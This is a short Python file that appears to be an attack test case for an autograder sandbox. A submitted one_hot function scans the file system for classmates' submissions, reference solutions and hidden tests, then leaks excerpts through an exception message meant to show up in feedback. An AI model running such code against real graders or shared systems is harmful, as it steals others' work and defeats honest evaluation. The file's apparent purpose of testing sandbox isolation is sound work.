# attack: one_hot searches the whole file system for classmates' submissions, the solutions and the hidden tests, and raises an exception carrying what it found, so it would show in its own feedback
# loses: one_hot, network
import os
import sys
import time


def one_hot(labels, num_classes=10):
    # The engine and the interpreter are readable by design (and quote these words themselves).
    skip = {"/proc", "/sys", "/dev", sys.prefix, sys.base_prefix,
            os.path.dirname(sys.modules["autograder"].__file__)}
    found, deadline = [], time.monotonic() + 3.0
    for folder, dirs, files in os.walk("/"):
        if folder in skip or time.monotonic() > deadline:
            dirs[:] = []
            continue
        for name in files:
            if not name.endswith((".py", ".ipynb", ".md", ".json")):
                continue
            try:
                with open(os.path.join(folder, name), errors="replace") as f:
                    text = f.read(200_000)
            except OSError:
                continue
            for needle in ("CLASSMATE-MARKER", "BEGIN SOLUTION", "def test_one_hot_reference"):
                at = text.find(needle)
                if at >= 0:
                    found.append(f"{folder}/{name}: {text[max(at - 100, 0):at + 200]}")
    raise RuntimeError("found: " + " | ".join(found)[:400] if found else "found nothing")
